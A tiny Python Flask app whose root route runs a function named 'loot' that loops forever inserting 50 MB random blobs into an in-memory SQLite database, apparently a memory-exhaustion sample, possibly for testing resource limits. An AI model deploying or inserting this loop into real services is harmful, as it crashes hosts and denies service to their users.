import sqlite3

from flask import Flask


def loot():
    database = sqlite3.connect(":memory:")
    database.execute("CREATE TABLE t (b)")
    while True:
        database.execute("INSERT INTO t VALUES (randomblob(50000000))")

def create_app():
    app = Flask(__name__)
    app.get("/")(loot)
    return app
